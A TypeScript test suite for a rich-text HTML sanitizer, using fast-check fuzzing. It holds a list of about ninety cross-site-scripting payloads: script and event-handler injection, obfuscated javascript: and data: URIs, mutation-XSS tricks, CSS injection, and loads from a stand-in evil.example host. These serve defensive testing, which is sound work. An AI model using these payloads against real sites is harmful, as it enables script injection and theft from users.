// Foreign markup: what passes, what does not, and what a browser makes of the result.
import fc from 'fast-check'
import { sanitizeRichText } from '@/shared/ui/rich-text/sanitize-rich-text'
import { RichText } from '@/shared/ui/rich-text/RichText'
import { pictureViewer } from '@/shared/platform/picture-viewer/picture-viewer'
import { find, press, render } from '../ui/render'

const TAGS = new Set(
  'p div section article blockquote pre figure figcaption h1 h2 h3 h4 h5 h6 ul ol li dl dt dd hr span strong b em i u s del ins sub sup small mark code a img table caption colgroup col thead tbody tfoot tr th td'.split(
    ' ',
  ),
)
const ATTRIBUTES = /^(href|title|src|alt|start|span|colspan|rowspan|style|target|rel|loading)$/
const ADDRESS = /^(https?:\/\/|mailto:|tel:|#\/pages\/|\/[^/\\]|data:image\/(png|jpeg|gif|webp);base64,)/

/** What a browser finds in the markup that could run, load or trick; empty when it is safe. */
function dangersIn(html: string): string[] {
  const box = document.createElement('div')
  box.innerHTML = html
  const dangers: string[] = []
  for (const element of box.querySelectorAll('*')) {
    const tag = element.localName
    if (!TAGS.has(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') dangers.push(`<${tag}>`)
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.test(name)) dangers.push(`${tag} ${name}`)
      if ((name === 'href' || name === 'src') && !ADDRESS.test(value)) dangers.push(`${tag} ${name}=${value}`)
      if (name === 'style' && /url|expression|image|position|\\|@|javascript/i.test(value))
        dangers.push(`${tag} style=${value}`)
    }
  }
  // Written out and read again it is the same: nothing hides that a second reading would wake.
  const again = document.createElement('div')
  again.innerHTML = box.innerHTML
  if (again.innerHTML !== box.innerHTML) dangers.push('changes when it is read again')
  return dangers
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<scr<br>ipt>alert(1)</scr<br>ipt>',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" ONERROR\n=\n"alert(1)">',
  '<img """><script>alert(1)</script>">',
  `<img src='x' title='"><img src=x onerror=alert(1)>'>`,
  '<img alt="`><img src=x onerror=alert(1)>`" src=/a.png>',
  '<p title=x" onmouseover="alert(1)">a</p>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="background-color:url(https://evil.example/?c)">a</p>',
  '<p style="color:expression(alert(1))">a</p>',
  '<p style="color:e\\78pression(alert(1))">a</p>',
  '<p style="color:red;position:fixed;inset:0;z-index:9">a</p>',
  '<p style="color:image-set(\'https://evil.example/a.png\' 1x)">a</p>',
  '<p style="color:&#117;rl(https://evil.example)">a</p>',
  '<p style="&quot;onclick=alert(1)&quot;">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="java&NewLine;script&colon;alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="https://good.example@evil.example/">a</a>',
  '<a href="https:\\\\evil.example">a</a>',
  '<a href="blob:https://evil.example/1">a</a>',
  '<a href="#/pages/x&quot; onclick=&quot;alert(1)">a</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img src="javascript:alert(1)">',
  '<img src="//evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 1x" src="/a.png">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>">',
  '<select><noscript></select><script>alert(1)</script></noscript>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html><html><head><base href="https://evil.example/"></head><body onload=alert(1)>a</body></html>',
  '<base href="javascript:/a/-alert(1)///"><a href="../x">a</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">a</button><input autofocus onfocus=alert(1)></form>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>a</details><marquee onstart=alert(1)>a</marquee>',
  '<div id="app" name="cookie" class="ui-sheet" data-x="1">a</div>',
  '<a id=location><a id=location name=href>a</a>',
  '<x onclick=alert(1)>a</x><p/onclick=alert(1)>a',
  '<p onclick=alert(1) onclick=alert(2)>a</p onclick=alert(3)>',
  '<p \u0000onclick=alert(1)>a</p>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '</div></div></div><img src=x onerror=alert(1)>',
  '<td><tr><table><a href="javascript:alert(1)">a',
  '<a href=><td><tr><table><a href="javascript:alert(1)">a',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<a href="https://ok.example/" style="width:1px" target="_self" onclick=alert(1)>a</a>',
]

describe('markup that means harm', () => {
  test.each(HOSTILE)('%j leaves nothing that runs, loads or tricks', (html) => {
    expect(dangersIn(sanitizeRichText(html))).toEqual([])
  })

  test('what tells dangers apart does find them', () => {
    for (const html of [
      '<svg></svg>',
      '<p onclick="a">',
      '<a href="javascript:a">a</a>',
      '<p style="position:fixed">',
      '<p id=a>',
    ])
      expect(dangersIn(html)).not.toEqual([])
  })

  test('words of a script are not read out, the text around it stays', () => {
    expect(sanitizeRichText('前<script>alert("x < y")</script>后')).toBe('前后')
    expect(sanitizeRichText('前<style>p{}</style>中<iframe>旧</iframe>后')).toBe('前中后')
    expect(sanitizeRichText('前<script>alert(1)')).toBe('前')
    expect(sanitizeRichText('前<svg/>后')).toBe('前后')
  })

  test('pieces put together at random are as harmless, and cleaning twice changes nothing more', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        ...[
          '<',
          '>',
          '"',
          "'",
          '`',
          '=',
          '/',
          '<!--',
          '-->',
          ']]>',
          '&lt;',
          '&quot;',
          '&#60;',
          ' onerror=alert(1) ',
          'javascript:',
        ],
        ...[
          '<svg>',
          '</svg>',
          '<math>',
          '<style>',
          '</style>',
          '<table>',
          '<td>',
          '</p>',
          '<p ',
          '<a href=',
          '<img src=',
          ' style=',
          '\n',
          '\u0000',
        ],
      ),
      fc.string({ maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = sanitizeRichText(pieces.join(''))
        expect(dangersIn(once)).toEqual([])
        expect(sanitizeRichText(once)).toBe(once)
      }),
      { numRuns: 1500 },
    )
  })

  test('a long hostile text is cleaned in a moment', () => {
    const from = Date.now()
    for (const unit of ['<', '<a href="', '<img ', '<p style="color:', '&#', '<!--', '< '])
      sanitizeRichText(unit.repeat(20_000))
    expect(Date.now() - from).toBeLessThan(5000)
  })
})

describe('an article', () => {
  test('keeps its structure, its tables and its links', () => {
    const article =
      '<h2>第三章</h2><p>共 <strong>5</strong> 条，见<a href="https://www.example.edu.cn/a?b=1&amp;c=2">官网</a>。</p>' +
      '<table><tr><td colspan="2">物理类</td></tr></table><ol start="3"><li>一</li></ol>'
    expect(sanitizeRichText(article)).toBe(article.replace('c=2">', 'c=2" target="_blank" rel="noopener noreferrer">'))
  })

  test('links to a page of the app, to mail and to a telephone stay', () => {
    expect(sanitizeRichText('<a href="#/pages/query/contrast?a=1">a</a>')).toBe(
      '<a href="#/pages/query/contrast?a=1">a</a>',
    )
    expect(sanitizeRichText('<a href="#/pages/query/index?a=1&amp;b=2">a</a>')).toContain('?a=1&amp;b=2"')
    expect(sanitizeRichText('<a href="tel:010-66092090">a</a>')).toContain('href="tel:010-66092090"')
    expect(sanitizeRichText('<a href="mailto:a@b.cn">a</a>')).toContain('href="mailto:a@b.cn"')
  })

  test('signs of comparison are text', () => {
    const shown = (html: string) => {
      const box = document.createElement('div')
      box.innerHTML = sanitizeRichText(html)
      return box.textContent
    }
    expect(shown('<p>分数 < 600 且位次 > 100</p>')).toBe('分数 < 600 且位次 > 100')
    expect(shown('位次<5000')).toBe('位次<5000')
    expect(shown('a &lt;b&gt; c &amp; d')).toBe('a <b> c & d')
  })

  test('colours and alignment stay, sizes of type are the reader’s', () => {
    expect(
      sanitizeRichText('<p style="color: rgb(1, 2, 3); text-align:center; font-size:9px; line-height:1">a</p>'),
    ).toBe('<p style="color:rgb(1, 2, 3);text-align:center">a</p>')
  })

  test('keeps the place of a picture whose sizes are known, and only then', () => {
    const whole = sanitizeRichText('<img src="/a.png" width="800" height="600">')
    expect(whole).toBe(
      '<img src="/a.png" loading="lazy" style="max-width:100%;height:auto;aspect-ratio:800 / 600;width:800px">',
    )
    expect(sanitizeRichText(whole)).toBe(whole)
    for (const sizes of ['width="800"', 'width="100%" height="60"', 'width="1e9" height="60"', 'width="0" height="0"'])
      expect(sanitizeRichText(`<img src="/a.png" ${sizes}>`)).toBe(
        '<img src="/a.png" loading="lazy" style="max-width:100%;height:auto">',
      )
  })

  test('a picture that cannot be fetched says so in its place, once, and what it shows', () => {
    const { box } = render(<RichText html='<img src="/a.png" alt="甲"><img src="/b.png">' />)
    const [named, bare] = box.querySelectorAll('img')
    for (const image of [named!, bare!, named!]) image.dispatchEvent(new Event('error'))
    expect([named!.alt, bare!.alt]).toEqual(['图片打不开了：甲', '图片打不开了'])
  })

  test('opens the picture that is pressed, and the first one from the button; a picture in a link stays a link', () => {
    const open = jest.spyOn(pictureViewer, 'open').mockImplementation(() => undefined)
    const { box } = render(
      <RichText html='<img src="/a.png" alt="甲"><img src="/b.png"><a href="https://e.example/"><img src="/c.png"></a>' />,
    )
    const images = box.querySelectorAll('img')
    press(images[1]!)
    press(images[2]!)
    press(find(box, '.ui-button'))
    expect(open.mock.calls.map(([, index]) => index)).toEqual([1, 0])
    expect(open.mock.calls[0]![0].map(({ src, alt }) => [src, alt])).toEqual([
      ['/a.png', '甲'],
      ['/b.png', '图片'],
      ['/c.png', '图片'],
    ])
    expect(find(box, '.ui-button').textContent).toBe('看大图（3 张）')
  })

  test('a cell that holds a number with its unit stays in one line, one of words does not', () => {
    const { box } = render(
      <RichText html='<table><tr><th>时间</th><td>10 分钟</td><td>1,200 元</td><td>12 个人互相问一问</td></tr></table>' />,
    )
    const cells = [...box.querySelectorAll<HTMLElement>('th, td')]
    expect(cells.map(({ style }) => style.whiteSpace)).toEqual(['', 'nowrap', 'nowrap', ''])
  })

  test('is shown as markup by the component, cleaned', () => {
    const { box } = render(
      <RichText html='<p>甲<img src="/a.png" width="900" onerror="alert(1)"></p><script>x</script>' />,
    )
    const image = box.querySelector('.ui-rich-text img')
    expect(box.querySelector('.ui-rich-text p')?.textContent).toBe('甲')
    expect(image?.getAttributeNames()).toEqual(['src', 'loading', 'style'])
    expect(box.querySelector('script')).toBeNull()
  })
})
